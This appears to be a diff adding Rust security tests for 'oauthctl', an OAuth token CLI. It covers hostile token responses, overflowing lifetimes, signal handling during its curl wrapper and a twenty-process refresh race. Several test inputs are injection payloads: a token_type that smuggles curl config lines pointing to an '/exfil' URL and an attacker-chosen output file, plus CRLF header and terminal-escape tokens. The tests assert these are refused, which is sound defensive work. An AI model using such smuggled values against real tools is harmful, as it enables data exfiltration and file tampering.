@@ -1,0 +1,540 @@
+//! Trust under hostile input: a token endpoint that tries to inject curl
+//! options or headers, absurd lifetimes, signals during `oauthctl curl`, and
+//! twenty processes racing one refresh. Each test is named after what it
+//! guards.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::{Arc, Condvar, Mutex};
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use crate::support::fake::{FakeProvider, Recorded, Reply, State};
+use crate::support::{
+    TestEnv, assert_code, assert_ok, printed_token, run_bounded, run_bounded_with_stdin, stderr,
+    stdout, wait_bounded, wait_until,
+};
+
+const CLIENT_ID: &str = "hostile-client";
+const CLIENT_SECRET: &str = "hostile-secret";
+const TOKEN_PATH: &str = "/token";
+const API_PATH: &str = "/api";
+
+/// A token endpoint answering every client-credentials POST with `body`, and
+/// an API at [`API_PATH`] that counts what reaches it.
+fn answering(body: Value) -> FakeProvider {
+    FakeProvider::start(State::default(), move |req, st| {
+        if req.path == API_PATH {
+            return Reply::json(200, &json!({"ok": true}));
+        }
+        if req.method != "POST" || req.path != TOKEN_PATH {
+            return Reply::not_found();
+        }
+        st.hits += 1;
+        Reply::json(200, &body)
+    })
+}
+
+/// A client-credentials profile `ci` for `provider`, the secret in the env.
+fn ci_env(provider: &FakeProvider) -> TestEnv {
+    let env = TestEnv::new();
+    env.write_config(&format!(
+        r#"
+[profiles.ci]
+token_url = "{}"
+client_id = "{CLIENT_ID}"
+grant = "client_credentials"
+"#,
+        provider.url(TOKEN_PATH)
+    ));
+    env
+}
+
+fn run(env: &TestEnv, args: &[&str]) -> Output {
+    run_bounded(
+        env.cmd()
+            .env("OAUTHCTL_CLIENT_SECRET", CLIENT_SECRET)
+            .args(args),
+    )
+}
+
+fn token_files(env: &TestEnv) -> Vec<PathBuf> {
+    std::fs::read_dir(env.data_dir().join("tokens"))
+        .map(|entries| entries.map(|e| e.unwrap().path()).collect())
+        .unwrap_or_default()
+}
+
+#[track_caller]
+fn assert_no_panic(out: &Output) {
+    let err = stderr(out);
+    assert!(!err.contains("panicked"), "oauthctl panicked:\n{err}");
+}
+
+/// Exit 3, one clean line, nothing on stdout, nothing stored.
+#[track_caller]
+fn assert_refused(env: &TestEnv, out: &Output, field: &str) {
+    assert_code(out, 3);
+    assert_no_panic(out);
+    assert!(stdout(out).is_empty(), "stdout: {:?}", stdout(out));
+    let err = stderr(out);
+    assert!(err.contains(field) && err.contains("refused"), "{err}");
+    assert!(
+        err.trim().lines().count() == 1,
+        "one line on stderr:\n{err}"
+    );
+    assert!(
+        token_files(env).is_empty(),
+        "stored: {:?}",
+        token_files(env)
+    );
+}
+
+#[test]
+fn curl_option_injection_through_token_type_is_refused_and_nothing_stored() {
+    let dir = tempfile::tempdir().unwrap();
+    let planted = dir.path().join("planted");
+    let provider = answering(json!({
+        "access_token": "fine-token",
+        "token_type": format!("Bearer X\nurl = http://127.0.0.2:9/exfil\noutput = {}\n#", planted.display()),
+        "expires_in": 3600,
+    }));
+    let env = ci_env(&provider);
+    let out = run(
+        &env,
+        &["curl", "-p", "ci", "--", "-sS", &provider.url(API_PATH)],
+    );
+    assert_refused(&env, &out, "token_type");
+    assert!(!planted.exists(), "curl wrote the attacker's file");
+    assert!(
+        provider.requests_to(API_PATH).is_empty(),
+        "a request went out with the hostile token"
+    );
+    let out = run(&env, &["token", "-p", "ci", "-o", "header"]);
+    assert_refused(&env, &out, "token_type");
+}
+
+#[test]
+fn access_tokens_outside_b64token_are_refused_and_nothing_stored() {
+    for token in [
+        "tok\nurl = http://127.0.0.2:9/",
+        "tok\r\nX-Injected: yes",
+        "tok\"en",
+        "tok en",
+        "\u{1b}]0;owned\u{7}",
+    ] {
+        let provider = answering(json!({"access_token": token, "token_type": "bearer"}));
+        let env = ci_env(&provider);
+        for args in [
+            &["client-credentials", "-p", "ci", "-o", "header"][..],
+            &["token", "-p", "ci", "-o", "env"][..],
+        ] {
+            let out = run(&env, args);
+            assert_refused(&env, &out, "access_token");
+        }
+    }
+}
+
+#[test]
+fn a_stored_token_with_a_newline_is_never_printed_or_handed_to_curl() {
+    let provider = answering(json!({"access_token": "good-token", "expires_in": 3600}));
+    let env = ci_env(&provider);
+    assert_eq!(
+        printed_token(&run(&env, &["token", "-p", "ci"])),
+        "good-token"
+    );
+    // As an older version, or a hand edit, could have left it.
+    let [file] = token_files(&env).try_into().expect("one token file");
+    let text = std::fs::read_to_string(&file).unwrap();
+    std::fs::write(
+        &file,
+        text.replace("good-token", "good\\nurl = http://127.0.0.2:9/"),
+    )
+    .unwrap();
+    for args in [
+        &["token", "-p", "ci", "-o", "header"][..],
+        &["token", "-p", "ci"][..],
+        &["curl", "-p", "ci", "--", "-sS", &provider.url(API_PATH)][..],
+    ] {
+        let out = run(&env, args);
+        assert_code(&out, 1);
+        assert_no_panic(&out);
+        assert!(stdout(&out).is_empty(), "{args:?}: {:?}", stdout(&out));
+        assert!(stderr(&out).contains("refusing"), "{}", stderr(&out));
+    }
+    assert!(provider.requests_to(API_PATH).is_empty());
+}
+
+#[test]
+fn absurd_lifetimes_neither_panic_nor_make_a_token_eternal() {
+    for expires_in in [
+        json!(18446744073709551616_f64),
+        json!(1e19),
+        json!(1e308),
+        json!("inf"),
+        json!("18446744073709551616"),
+    ] {
+        let provider = answering(json!({"access_token": "long-lived", "expires_in": expires_in}));
+        let env = ci_env(&provider);
+        for args in [
+            &["client-credentials", "-p", "ci", "-o", "json"][..],
+            &["token", "-p", "ci", "-o", "env"][..],
+            &["status", "-o", "json"][..],
+            &["token", "-p", "ci", "-o", "json"][..],
+        ] {
+            let out = run(&env, args);
+            assert_ok(&out);
+            assert_no_panic(&out);
+        }
+        let out = run(&env, &["token", "-p", "ci", "-o", "json"]);
+        let json: Value = serde_json::from_str(&stdout(&out)).unwrap();
+        let left = json["expires_in"].as_i64().unwrap_or(0);
+        // "inf" is not a number: it expires now. The others are clamped to
+        // ten years, never left to overflow.
+        assert!(
+            left <= 10 * 366 * 24 * 3600,
+            "{expires_in}: expires_in {left}"
+        );
+    }
+}
+
+#[test]
+fn nonsense_lifetimes_mean_expires_now_so_client_credentials_mint_again() {
+    for expires_in in [
+        json!(-1),
+        json!(0),
+        json!("NaN"),
+        json!("soon"),
+        json!(true),
+    ] {
+        let provider = answering(json!({"access_token": "short", "expires_in": expires_in}));
+        let env = ci_env(&provider);
+        for _ in 0..2 {
+            assert_eq!(printed_token(&run(&env, &["token", "-p", "ci"])), "short");
+        }
+        assert_eq!(
+            provider.requests_to(TOKEN_PATH).len(),
+            2,
+            "{expires_in}: a token that expires now was trusted"
+        );
+    }
+}
+
+/// A JWT whose claims are `claims` (unsigned: inspect does not verify).
+fn jwt(claims: &Value) -> String {
+    use base64::Engine;
+    let encode = |v: &Value| {
+        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string().as_bytes())
+    };
+    format!(
+        "{}.{}.c2ln",
+        encode(&json!({"alg": "none", "typ": "JWT"})),
+        encode(claims)
+    )
+}
+
+#[test]
+fn jwt_times_past_any_calendar_do_not_panic_inspect_or_status() {
+    for exp in [
+        json!(u64::MAX),
+        json!(i64::MAX),
+        json!(1e19),
+        json!(253402300800_u64),
+        json!(-1),
+    ] {
+        let token = jwt(&json!({"sub": "robot", "exp": exp, "iat": exp, "nbf": exp}));
+        let provider = answering(json!({"access_token": token, "expires_in": 3600}));
+        let env = ci_env(&provider);
+        assert_ok(&run(&env, &["token", "-p", "ci"]));
+        for args in [&["inspect", "-p", "ci"][..], &["status", "-o", "json"][..]] {
+            let out = run(&env, args);
+            assert_ok(&out);
+            assert_no_panic(&out);
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Twenty processes, one refresh
+
+/// Holds the refresh answer until the test opens it, so that every process
+/// is known to be waiting on the lock first.
+#[derive(Default)]
+struct Gate {
+    open: Mutex<bool>,
+    opened: Condvar,
+}
+
+impl Gate {
+    fn wait(&self) {
+        let guard = self.open.lock().unwrap();
+        // Bounded: a test that never opens it must still end.
+        let _ = self
+            .opened
+            .wait_timeout_while(guard, Duration::from_secs(60), |open| !*open);
+    }
+
+    fn open(&self) {
+        *self.open.lock().unwrap() = true;
+        self.opened.notify_all();
+    }
+}
+
+/// Refresh tokens rotate, and every refresh revokes the access tokens issued
+/// before it (as providers that bind access tokens to the refresh do). The
+/// refresh answer waits for `gate`.
+fn rotating_provider(gate: Arc<Gate>) -> FakeProvider {
+    FakeProvider::start(State::default(), move |req: &Recorded, st| {
+        if req.path == API_PATH {
+            let ok = req.bearer().is_some_and(|t| st.access_tokens.contains(t));
+            return Reply::json(if ok { 200 } else { 401 }, &json!({"ok": ok}));
+        }
+        if req.method != "POST" || req.path != TOKEN_PATH {
+            return Reply::not_found();
+        }
+        let presented = req.param("refresh_token").unwrap_or_default();
+        if !st.refresh_tokens.remove(&presented) {
+            return Reply::oauth_error(400, "invalid_grant", "unknown refresh token");
+        }
+        st.hits += 1;
+        if st.hits > 1 {
+            gate.wait();
+        }
+        let n = st.hits;
+        st.access_tokens.clear();
+        st.access_tokens.insert(format!("access-{n}"));
+        st.refresh_tokens.insert(format!("refresh-{n}"));
+        Reply::json(
+            200,
+            &json!({
+                "access_token": format!("access-{n}"),
+                "refresh_token": format!("refresh-{n}"),
+                "token_type": "Bearer",
+                "expires_in": 3600,
+            }),
+        )
+    })
+}
+
+#[test]
+fn waiters_use_the_token_renewed_meanwhile_so_twenty_calls_cause_one_refresh() {
+    let gate = Arc::new(Gate::default());
+    let provider = rotating_provider(Arc::clone(&gate));
+    provider.state().refresh_tokens.insert("refresh-0".into());
+    let env = TestEnv::new();
+    env.write_config(&format!(
+        "[profiles.work]\ntoken_url = \"{}\"\nclient_id = \"{CLIENT_ID}\"\n",
+        provider.url(TOKEN_PATH)
+    ));
+    let out = run_bounded_with_stdin(
+        env.cmd()
+            .args(["login", "-p", "work", "--with-refresh-token", "-"]),
+        Some("refresh-0\n"),
+    );
+    assert_ok(&out);
+
+    // A --min-ttl beyond the token's lifetime: every call wants a refresh.
+    let mut children: Vec<_> = (0..20)
+        .map(|_| {
+            env.cmd()
+                .args(["-vv", "token", "-p", "work", "--min-ttl", "86400"])
+                .stdout(Stdio::piped())
+                .stderr(Stdio::piped())
+                .spawn()
+                .unwrap()
+        })
+        .collect();
+    let (tx, rx) = std::sync::mpsc::channel();
+    let readers: Vec<_> = children
+        .iter_mut()
+        .map(|child| {
+            let tx = tx.clone();
+            let err = child.stderr.take().unwrap();
+            std::thread::spawn(move || {
+                use std::io::BufRead;
+                let mut all = String::new();
+                for line in std::io::BufReader::new(err).lines().map_while(Result::ok) {
+                    if line.contains("waiting for another oauthctl process") {
+                        let _ = tx.send(());
+                    }
+                    all.push_str(&line);
+                    all.push('\n');
+                }
+                all
+            })
+        })
+        .collect();
+    // One process holds the lock and its refresh is held at the gate; the
+    // other nineteen must all be waiting for the lock before it opens.
+    let mut waiting = 0;
+    wait_until(
+        "19 processes waiting on the lock",
+        Duration::from_secs(60),
+        || {
+            while rx.try_recv().is_ok() {
+                waiting += 1;
+            }
+            waiting >= 19
+        },
+    );
+    gate.open();
+    let mut tokens = Vec::new();
+    for (child, reader) in children.iter_mut().zip(readers) {
+        let status = wait_bounded(child, Duration::from_secs(60)).expect("token finished");
+        let err = reader.join().unwrap();
+        let mut out = String::new();
+        std::io::Read::read_to_string(child.stdout.as_mut().unwrap(), &mut out).unwrap();
+        assert!(status.success(), "{status}: {err}");
+        tokens.push(out.trim().to_owned());
+    }
+    assert_eq!(
+        provider.requests_to(TOKEN_PATH).len(),
+        2,
+        "the login's refresh, then exactly one for twenty callers"
+    );
+    let current = provider.state().access_tokens.clone();
+    for token in &tokens {
+        assert!(
+            current.contains(token),
+            "a caller printed {token}, which the provider no longer accepts ({current:?})"
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Signals during `oauthctl curl`
+
+/// A curl wrapper that records its pid, then becomes the real curl.
+fn pid_recording_curl(env: &TestEnv) -> (String, PathBuf) {
+    let bin = env.path().join("wrapper-bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let pidfile = env.path().join("curl.pid");
+    let real = std::env::split_paths(&std::env::var_os("PATH").unwrap())
+        .map(|d| d.join("curl"))
+        .find(|p| p.is_file())
+        .expect("curl on PATH");
+    let script = bin.join("curl");
+    std::fs::write(
+        &script,
+        format!(
+            "#!/bin/sh\necho $$ > '{}'\nexec '{}' \"$@\"\n",
+            pidfile.display(),
+            real.display()
+        ),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let path = format!(
+        "{}:{}",
+        bin.display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    (path, pidfile)
+}
+
+fn curl_workdirs(env: &TestEnv) -> Vec<PathBuf> {
+    std::fs::read_dir(env.path().join("runtime"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| {
+            p.file_name()
+                .is_some_and(|n| n.to_string_lossy().starts_with("oauthctl-curl-"))
+        })
+        .collect()
+}
+
+fn alive(pid: u32) -> bool {
+    Path::new(&format!("/proc/{pid}")).exists()
+}
+
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
+}
+
+/// Starts `oauthctl curl` on an API that never answers, waits until curl's
+/// request is in, checks what is on disk meanwhile, sends `signal` (to the
+/// process group when `group`), and checks that nothing is left behind.
+fn interrupt_curl(signal: &str, group: bool, expected_code: i32) {
+    let provider = FakeProvider::start(State::default(), |req, _st| {
+        if req.path == "/slow" {
+            return Reply::json(200, &json!({"late": true})).delayed(Duration::from_secs(60));
+        }
+        Reply::json(
+            200,
+            &json!({"access_token": "signal-token", "token_type": "Bearer", "expires_in": 3600}),
+        )
+    });
+    let env = ci_env(&provider);
+    let (path, pidfile) = pid_recording_curl(&env);
+    let mut cmd = env.cmd();
+    cmd.env("PATH", &path)
+        .env("OAUTHCTL_CLIENT_SECRET", CLIENT_SECRET)
+        .args(["curl", "-p", "ci", "--", "-sS", &provider.url("/slow")])
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped());
+    if group {
+        use std::os::unix::process::CommandExt;
+        cmd.process_group(0);
+    }
+    let mut child = cmd.spawn().unwrap();
+    wait_until("curl's request", Duration::from_secs(30), || {
+        !provider.requests_to("/slow").is_empty()
+    });
+    let curl_pid: u32 = std::fs::read_to_string(&pidfile)
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    let [workdir] = curl_workdirs(&env).try_into().expect("one work dir");
+    assert_eq!(mode(&workdir), 0o700, "the work dir");
+    for entry in std::fs::read_dir(&workdir).unwrap() {
+        let path = entry.unwrap().path();
+        assert_eq!(mode(&path), 0o600, "{}", path.display());
+        let text = std::fs::read_to_string(&path).unwrap_or_default();
+        assert!(!text.contains("signal-token"), "the token is on disk");
+    }
+    let target = if group {
+        format!("-{}", child.id())
+    } else {
+        child.id().to_string()
+    };
+    let sent = Command::new("kill")
+        .args([&format!("-{signal}"), "--", &target])
+        .status()
+        .unwrap();
+    assert!(sent.success());
+    let status =
+        wait_bounded(&mut child, Duration::from_secs(30)).expect("oauthctl ended after the signal");
+    let mut err = String::new();
+    std::io::Read::read_to_string(child.stderr.as_mut().unwrap(), &mut err).unwrap();
+    assert!(!err.contains("panicked"), "{err}");
+    use std::os::unix::process::ExitStatusExt;
+    let code = status
+        .code()
+        .or_else(|| status.signal().map(|s| 128 + s))
+        .unwrap();
+    assert_eq!(code, expected_code, "{status}: {err}");
+    assert!(!alive(curl_pid), "curl {curl_pid} outlived oauthctl");
+    assert!(
+        curl_workdirs(&env).is_empty(),
+        "left behind: {:?}",
+        curl_workdirs(&env)
+    );
+}
+
+#[test]
+fn sigterm_to_oauthctl_curl_ends_curl_and_leaves_nothing_on_disk() {
+    interrupt_curl("TERM", false, 143);
+}
+
+#[test]
+fn sighup_to_oauthctl_curl_ends_curl_and_leaves_nothing_on_disk() {
+    interrupt_curl("HUP", false, 129);
+}
+
+#[test]
+fn ctrl_c_to_the_process_group_ends_curl_and_leaves_nothing_on_disk() {
+    interrupt_curl("INT", true, 130);
+}
